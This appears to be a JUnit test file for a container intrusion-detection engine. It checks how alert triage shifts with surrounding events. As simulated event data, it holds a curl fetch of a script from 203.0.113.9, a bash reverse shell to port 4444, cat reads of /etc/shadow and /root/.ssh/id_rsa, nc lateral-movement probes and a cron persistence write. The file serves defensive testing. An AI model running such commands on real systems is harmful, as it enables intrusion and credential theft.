package io.hivesec.triage;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.Confidence;
import io.hivesec.alert.Exemption;
import io.hivesec.alert.Finding;
import io.hivesec.alert.Report;
import io.hivesec.alert.Rule;
import io.hivesec.alert.Triage;
import io.hivesec.event.Container;
import io.hivesec.event.ContainerStarted;
import io.hivesec.event.Context;
import io.hivesec.event.Endpoint;
import io.hivesec.event.Event;
import io.hivesec.event.FileOpened;
import io.hivesec.event.FileWritten;
import io.hivesec.event.NetworkConnected;
import io.hivesec.event.OpenFlags;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.history.AccessGraph;
import io.hivesec.history.ContainerHistory;
import io.hivesec.history.Histories;
import io.hivesec.history.HistoryLimits;
import io.hivesec.spi.Detector;
import io.hivesec.spi.Whitelist;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** What happens around an alert moves its triage, before it and after it. */
final class SurroundingsTest {
    private static final Instant START = Instant.parse("2026-01-02T03:04:05Z");
    private static final Container WEB = Container.of("c1", "web-1", "example/web:1");
    private static final Rule SHELL = Rule.of("test.shell", AlertType.REVERSE_SHELL)
            .confidence(Confidence.MEDIUM)
            .techniques("T1059")
            .build();
    private static final Rule MINER = Rule.of("test.miner", AlertType.MALICIOUS_COMMAND)
            .techniques("T1496")
            .build();

    /** Any connection to port 4444 is a shell; any program called miner mines. */
    private static final class Shells implements Detector {
        @Override
        public String id() {
            return "shells";
        }

        @Override
        public Set<Rule> rules() {
            return Set.of(SHELL, MINER);
        }

        @Override
        public List<Finding> inspect(Event event, ContainerHistory history) {
            if (event instanceof NetworkConnected connected
                    && connected.target().port() == 4444) {
                return List.of(
                        Finding.builder(SHELL, event).target(connected.target()).build());
            }
            return event instanceof ProcessStarted && event.process().name().equals("miner")
                    ? List.of(Finding.builder(MINER, event)
                            .evidence("command", event.process().commandLine())
                            .build())
                    : List.of();
        }
    }

    /** Trusts what says that it has a licence. */
    private static final class Licences implements Whitelist {
        @Override
        public String id() {
            return "licences";
        }

        @Override
        public Optional<Exemption> exempts(Alert alert) {
            return alert.evidence().stream()
                    .filter(evidence -> evidence.value().contains("--licensed"))
                    .map(evidence -> new Exemption(id(), "licensed", "bought"))
                    .findFirst();
        }
    }

    private final Hive hive = Hive.builder().detector(new Shells()).build();

    @AfterEach
    void close() {
        hive.close();
    }

    private static Context at(int second, int pid, String executable, String... arguments) {
        return Context.of(
                START.plusSeconds(second),
                WEB,
                Process.builder()
                        .pid(pid)
                        .executable(executable)
                        .arguments(arguments)
                        .build());
    }

    private Report run(int second, int pid, String executable, String... arguments) {
        return hive.inspect(new ProcessStarted(at(second, pid, executable, arguments)));
    }

    private Report open(int second, String path) {
        return hive.inspect(new FileOpened(at(second, 9, "/bin/cat"), path, OpenFlags.READ));
    }

    private Report write(int second, String path) {
        return hive.inspect(new FileWritten(at(second, 5, "/usr/bin/curl"), path, OpenFlags.WRITE));
    }

    private Report connect(int second, String executable, String ip, int port) {
        return hive.inspect(
                new NetworkConnected(at(second, 7, executable), "tcp", Endpoint.UNKNOWN, Endpoint.of(ip, port), 3));
    }

    /** More events than a history holds, none of which means anything. */
    private void fillTheHistory() {
        for (int i = 0; i < HistoryLimits.DEFAULT.events(); i++) {
            run(5, 100, "/bin/true");
            open(5, "/etc/hosts");
        }
    }

    /** Another container of the image shows its address. */
    private void replicaConnectsFrom(String ip) {
        Context replica = Context.of(
                START,
                Container.of("c2", "web-2", WEB.image()),
                Process.builder().pid(3).executable("/usr/sbin/app").build());
        hive.inspect(new NetworkConnected(replica, "tcp", Endpoint.of(ip, 40_000), Endpoint.of("10.0.0.5", 5432), 3));
    }

    private Alert shell(int second) {
        return connect(second, "/bin/bash", "203.0.113.9", 4444).alerts().get(0);
    }

    private static Optional<Triage.Signal> signal(Alert alert, String name) {
        return alert.triage().signals().stream()
                .filter(signal -> signal.name().equals(name))
                .findFirst();
    }

    @Test
    void download_before_isASignalWithItsCommandAndTime() {
        run(0, 5, "/usr/bin/curl", "curl", "http://203.0.113.9/a.sh");
        assertThat(signal(shell(30), "download-before").orElseThrow().detail())
                .contains("curl http://203.0.113.9/a.sh", "2026-01-02T03:04:05Z");
    }

    @Test
    void download_longBefore_isNone() {
        run(0, 5, "/usr/bin/curl", "curl", "http://203.0.113.9/a.sh");
        assertThat(signal(shell(700), "download-before")).isEmpty();
    }

    @Test
    void healthCheck_before_isNoDownload() {
        run(0, 5, "/usr/bin/curl", "curl", "http://localhost/health");
        assertThat(signal(shell(30), "download-before")).isEmpty();
    }

    @Test
    void credentialRead_after_revisesTheSameAlert() {
        Alert shell = shell(0);
        Report report = open(20, "/etc/shadow");
        assertThat(report.alerts()).singleElement().satisfies(alert -> {
            assertThat(alert.id()).isEqualTo(shell.id());
            assertThat(alert.revision()).isEqualTo(2);
            assertThat(alert.triage().probability())
                    .isGreaterThan(shell.triage().probability());
            assertThat(signal(alert, "after-credential-read").orElseThrow().detail())
                    .contains("cat read /etc/shadow");
        });
        assertThat(hive.alerts().find(shell.id()).orElseThrow().revision()).isEqualTo(2);
    }

    @Test
    void credentialRead_again_isNoNews() {
        shell(0);
        open(20, "/etc/shadow");
        assertThat(open(21, "/etc/shadow").alerts()).isEmpty();
    }

    @Test
    void credentialRead_afterTheWindow_revisesNothing() {
        shell(0);
        assertThat(open(601, "/etc/shadow").alerts()).isEmpty();
    }

    @Test
    void ordinaryRead_after_revisesNothing() {
        shell(0);
        assertThat(open(20, "/etc/hosts").alerts()).isEmpty();
    }

    @Test
    void whoami_after_isReconnaissance() {
        shell(0);
        assertThat(signal(run(5, 11, "/usr/bin/whoami").alerts().get(0), "after-reconnaissance"))
                .isPresent();
    }

    @Test
    void threeNewPeers_after_areLateralMovement() {
        shell(0);
        assertThat(connect(5, "/usr/bin/nc", "10.0.0.2", 22).alerts()).isEmpty();
        assertThat(connect(6, "/usr/bin/nc", "10.0.0.3", 22).alerts()).isEmpty();
        Alert revised = connect(7, "/usr/bin/nc", "10.0.0.4", 22).alerts().get(0);
        assertThat(signal(revised, "new-peers").orElseThrow().detail())
                .contains("10.0.0.2:22", "10.0.0.3:22", "10.0.0.4:22");
    }

    @Test
    void anotherAlert_ofTheContainer_correlatesBothWays() {
        shell(0);
        Report report = run(10, 12, "/usr/bin/miner");
        assertThat(report.alerts())
                .hasSize(2)
                .allSatisfy(
                        alert -> assertThat(signal(alert, "correlated-alerts")).isPresent());
    }

    @Test
    void executable_thatTheContainerWrote_isAHardIndicator() {
        write(0, "/opt/dropped");
        Alert alert = connect(5, "/opt/dropped", "127.0.0.1", 4444).alerts().get(0);
        assertThat(signal(alert, "executable-not-from-image")).isPresent();
        assertThat(alert.triage().probability()).isGreaterThanOrEqualTo(0.5);
        assertThat(signal(alert, "hard-indicator")).isPresent();
    }

    @Test
    void benignSignals_together_areCapped() {
        Alert alert = connect(5, "/bin/bash", "127.0.0.1", 4444).alerts().get(0);
        assertThat(signal(alert, "target-scope").orElseThrow().decibans()).isEqualTo(-25);
        assertThat(alert.triage().band()).isEqualTo(Triage.Band.LOW);
    }

    @Test
    void sameTarget_fromMostReplicas_speaksForInnocence() {
        for (String replica : List.of("c2", "c3", "c4")) {
            Container container = Container.of(replica, replica, WEB.image());
            Context context = Context.of(
                    START,
                    container,
                    Process.builder().pid(3).executable("/bin/bash").build());
            hive.inspect(new NetworkConnected(context, "tcp", Endpoint.UNKNOWN, Endpoint.of("203.0.113.9", 4444), 3));
        }
        Alert alert = shell(200);
        assertThat(signal(alert, "edge-of-most-replicas").orElseThrow().decibans())
                .isEqualTo(-8);
        assertThat(signal(alert, "target-first-seen")).isEmpty();
    }

    @Test
    void target_thatIsAnotherReplica_isWorthLess() {
        Alert unknown = connect(0, "/bin/bash", "10.0.0.8", 4444).alerts().get(0);
        assertThat(unknown.triage().notChecked()).contains("whether the target belongs to the same workload");
        replicaConnectsFrom("10.0.0.8");
        Alert known = open(20, "/etc/shadow").alerts().get(0);
        assertThat(signal(known, "target-same-workload").orElseThrow().decibans())
                .isEqualTo(-13);
        assertThat(known.triage().notChecked()).doesNotContain("whether the target belongs to the same workload");
    }

    @Test
    void target_thatTheImageNeverReached_isFirstSeen() {
        connect(0, "/usr/sbin/app", "10.0.0.2", 5432);
        assertThat(signal(shell(180), "target-first-seen")).isPresent();
    }

    @Test
    void target_ofAnImageHardlyWatched_isNotChecked() {
        assertThat(shell(0).triage().notChecked()).anyMatch(what -> what.contains("new for this image"));
    }

    @Test
    void laterThing_thatWasToldAlready_asksForNoOtherLook() {
        Alert shell = shell(0);
        assertThat(tellsMore(shell, START.plusSeconds(5), "/usr/bin/whoami")).isTrue();
        Alert revised = run(5, 11, "/usr/bin/whoami").alerts().get(0);
        assertThat(tellsMore(revised, START.plusSeconds(6), "/usr/bin/whoami")).isFalse();
        assertThat(tellsMore(revised, START.plusSeconds(6), "/usr/bin/id")).isTrue();
        assertThat(tellsMore(revised, START.plusSeconds(601), "/usr/bin/id")).isFalse();
        assertThat(tellsMore(revised, START.plusSeconds(6), "/usr/bin/true")).isFalse();
    }

    @Test
    void laterThings_moreThanAreListed_askForNoOtherLook() {
        Alert shell = shell(0);
        for (int i = 0; i < 12; i++) {
            run(5, 20 + i, "/usr/bin/find", "find", "/home/user" + i, "/etc/passwd");
        }
        Alert full = hive.alerts().find(shell.id()).orElseThrow();
        assertThat(signal(full, "after-reconnaissance").orElseThrow().seen()).hasSize(9);
        assertThat(tellsMore(full, START.plusSeconds(6), "/usr/bin/id")).isFalse();
        assertThat(tellsMore(full, START.plusSeconds(6), "/bin/cat", "cat", "/etc/shadow"))
                .isTrue();
    }

    private boolean tellsMore(Alert alert, Instant time, String executable, String... arguments) {
        Event event = new ProcessStarted(Context.of(
                time,
                WEB,
                Process.builder()
                        .pid(40)
                        .executable(executable)
                        .arguments(arguments)
                        .build()));
        return new Histories(HistoryLimits.DEFAULT)
                .record(
                        event,
                        history -> new Triager(List.of())
                                .tellsMore(event, alert, new Surroundings(history, null, List.of())));
    }

    @Test
    void peers_newOnes_askForALookOnceEach() {
        Alert shell = shell(0);
        AccessGraph graph = new AccessGraph(100);
        assertThat(tellsMore(shell, connection(-5, "10.0.0.2"), graph)).isFalse();
        assertThat(tellsMore(shell, connection(5, "10.0.0.2"), graph)).isFalse();
        assertThat(tellsMore(shell, connection(5, "10.0.0.3"), graph)).isTrue();
        assertThat(tellsMore(shell, connection(6, "10.0.0.3"), graph)).isFalse();
        assertThat(tellsMore(shell, connection(7, "127.0.0.1"), graph)).isFalse();
        assertThat(tellsMore(shell, connection(301, "10.0.0.4"), graph)).isFalse();
    }

    private static NetworkConnected connection(int second, String ip) {
        return new NetworkConnected(at(second, 7, "/usr/bin/nc"), "tcp", Endpoint.UNKNOWN, Endpoint.of(ip, 22), 3);
    }

    private static boolean tellsMore(Alert alert, NetworkConnected event, AccessGraph graph) {
        graph.record(event);
        return new Triager(List.of()).tellsMore(event, alert, new Surroundings(null, graph, List.of()));
    }

    @Test
    void replica_learntOfLater_revisesWithinHalfAMinute() {
        connect(0, "/bin/bash", "10.0.0.8", 4444);
        connect(0, "/bin/bash", "10.0.0.9", 80);
        replicaConnectsFrom("10.0.0.8");
        assertThat(connect(29, "/bin/bash", "10.0.0.9", 80).alerts()).isEmpty();
        assertThat(connect(30, "/bin/bash", "10.0.0.9", 80).alerts())
                .singleElement()
                .satisfies(alert ->
                        assertThat(signal(alert, "target-same-workload")).isPresent());
    }

    @Test
    void counterfactual_leavesTheStrongestSignalOut() {
        Triage triage = shell(0).triage();
        Triage.Counterfactual without = triage.counterfactual();
        assertThat(without).isNotNull();
        assertThat(without.without()).isEqualTo("target-scope");
        assertThat(without.probability()).isLessThan(triage.probability());
    }

    @Test
    void download_forgottenByAge_staysInLaterRevisions() {
        run(0, 5, "/usr/bin/curl", "curl", "http://203.0.113.9/a.sh");
        Alert shell = shell(300);
        Alert revised = open(700, "/etc/shadow").alerts().get(0);
        assertThat(revised.id()).isEqualTo(shell.id());
        assertThat(signal(revised, "after-credential-read")).isPresent();
        assertThat(signal(revised, "download-before")).isEqualTo(signal(shell, "download-before"));
        assertThat(revised.triage().probability()).isGreaterThan(shell.triage().probability());
    }

    @Test
    void everySignal_pushedOutOfAFullHistory_staysInLaterRevisions() {
        write(0, "/opt/dropped");
        run(1, 5, "/usr/bin/curl", "curl", "http://203.0.113.9/a.sh");
        connect(2, "/opt/dropped", "203.0.113.9", 4444);
        open(3, "/etc/shadow");
        Alert before = run(4, 11, "/usr/bin/whoami").alerts().get(0);
        fillTheHistory();
        Alert after = write(6, "/etc/cron.d/job").alerts().get(0);
        assertThat(after.id()).isEqualTo(before.id());
        assertThat(after.revision()).isEqualTo(before.revision() + 1);
        assertThat(after.triage().signals()).containsAll(before.triage().signals());
        assertThat(signal(after, "after-persistence")).isPresent();
        assertThat(after.triage().notChecked()).noneMatch(what -> what.contains("from the image"));
        assertThat(after.triage().probability()).isGreaterThan(before.triage().probability());
    }

    @Test
    void hardIndicator_forgotten_stillHoldsItsFloor() {
        write(0, "/opt/dropped");
        connect(1, "/opt/dropped", "127.0.0.1", 4444);
        fillTheHistory();
        Alert after = run(6, 11, "/usr/bin/whoami").alerts().get(0);
        assertThat(signal(after, "hard-indicator")).isPresent();
        assertThat(after.triage().probability()).isGreaterThanOrEqualTo(0.5);
    }

    @Test
    void evidence_ofOneSignal_growsAndKeepsWhatWasSaidFirst() {
        shell(0);
        open(1, "/etc/shadow");
        fillTheHistory();
        open(6, "/root/.ssh/id_rsa");
        Alert after = run(7, 11, "/usr/bin/whoami").alerts().get(0);
        assertThat(signal(after, "after-credential-read").orElseThrow().detail())
                .containsSubsequence(
                        "/etc/shadow at 2026-01-02T03:04:06Z", "/root/.ssh/id_rsa at 2026-01-02T03:04:11Z");
    }

    @Test
    void evidence_ofOneSignal_isToldOnceABurst() {
        shell(0);
        assertThat(run(1, 11, "/usr/bin/whoami").alerts()).hasSize(1);
        assertThat(run(2, 12, "/usr/bin/id").alerts()).isEmpty();
        assertThat(run(31, 13, "/usr/bin/uname").alerts()).isEmpty();
        fillTheHistory();
        Report told = run(32, 14, "/usr/bin/hostname");
        assertThat(told.alerts()).singleElement().satisfies(alert -> {
            assertThat(alert.revision()).isEqualTo(3);
            assertThat(signal(alert, "after-reconnaissance").orElseThrow().seen())
                    .extracting(Triage.Seen::what)
                    .containsExactly("/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname", "/usr/bin/hostname");
        });
        assertThat(hive.flush().isEmpty()).isTrue();
    }

    @Test
    void evidence_heldBack_isStoredAndToldAtTheEnd() throws Exception {
        Alert shell = shell(0);
        run(1, 11, "/usr/bin/whoami");
        run(2, 12, "/usr/bin/id");
        Alert stored = hive.alerts().find(shell.id()).orElseThrow();
        assertThat(signal(stored, "after-reconnaissance").orElseThrow().seen()).hasSize(2);
        assertThat(stored.revision()).isEqualTo(2);
        try (Hive other = Hive.builder().detector(new Shells()).build()) {
            other.restore(hive.snapshot());
            Alert restored = other.flush().alerts().get(0);
            Alert told = hive.flush().alerts().get(0);
            assertThat(restored.revision()).isEqualTo(told.revision()).isEqualTo(3);
            assertThat(restored.triage().signals()).isEqualTo(told.triage().signals());
        }
        assertThat(hive.flush().isEmpty()).isTrue();
        assertThat(hive.alerts().find(shell.id()).orElseThrow().revision()).isEqualTo(3);
    }

    @Test
    void impact_forgotten_staysInLaterRevisions() {
        hive.inspect(new ContainerStarted(at(0, 1, "/sbin/init"), "{\"Privileged\": true}"));
        Alert shell = shell(1);
        assertThat(shell.triage().impact().stakes()).contains("privileged container");
        fillTheHistory();
        assertThat(run(6, 11, "/usr/bin/whoami").alerts().get(0).triage().impact())
                .isEqualTo(shell.triage().impact());
    }

    @Test
    void correlatedAlert_tooOldToBeKept_staysInLaterRevisions() {
        run(0, 12, "/usr/bin/miner");
        Alert shell = shell(590);
        assertThat(signal(shell, "correlated-alerts")).isPresent();
        Alert revised = open(650, "/etc/shadow").alerts().get(0);
        assertThat(signal(revised, "correlated-alerts")).isEqualTo(signal(shell, "correlated-alerts"));
    }

    @Test
    void correlatedAlert_thatAWhitelistExemptsLater_isRefuted() {
        try (Hive trusting =
                Hive.builder().detector(new Shells()).whitelist(new Licences()).build()) {
            trusting.inspect(new ProcessStarted(at(0, 12, "/usr/bin/miner")));
            NetworkConnected connect = new NetworkConnected(
                    at(1, 7, "/bin/bash"), "tcp", Endpoint.UNKNOWN, Endpoint.of("203.0.113.9", 4444), 3);
            assertThat(signal(trusting.inspect(connect).alerts().get(0), "correlated-alerts"))
                    .isPresent();
            trusting.inspect(new ProcessStarted(at(2, 12, "/usr/bin/miner", "miner", "--licensed")));
            Report report = trusting.inspect(new ProcessStarted(at(3, 11, "/usr/bin/whoami")));
            assertThat(report.alerts())
                    .singleElement()
                    .satisfies(alert ->
                            assertThat(signal(alert, "correlated-alerts")).isEmpty());
        }
    }

    @Test
    void target_thatTurnsOutToBeKnown_isRefutedAsFirstSeen() {
        connect(0, "/usr/sbin/app", "10.0.0.2", 5432);
        assertThat(signal(shell(180), "target-first-seen")).isPresent();
        // Told late: another replica was there an hour ago.
        hive.inspect(new NetworkConnected(
                Context.of(
                        START.minusSeconds(3600),
                        Container.of("c2", "web-2", WEB.image()),
                        Process.builder().pid(3).executable("/bin/bash").build()),
                "tcp",
                Endpoint.UNKNOWN,
                Endpoint.of("203.0.113.9", 4444),
                3));
        Alert revised = open(190, "/etc/shadow").alerts().get(0);
        assertThat(signal(revised, "target-first-seen")).isEmpty();
    }

    @Test
    void snapshot_restored_revisesAsBefore() throws Exception {
        Alert shell = shell(0);
        try (Hive other = Hive.builder().detector(new Shells()).build()) {
            other.restore(hive.snapshot());
            Report report = other.inspect(new FileOpened(at(20, 9, "/bin/cat"), "/etc/shadow", OpenFlags.READ));
            assertThat(report.alerts()).extracting(Alert::id).containsExactly(shell.id());
        }
    }
}
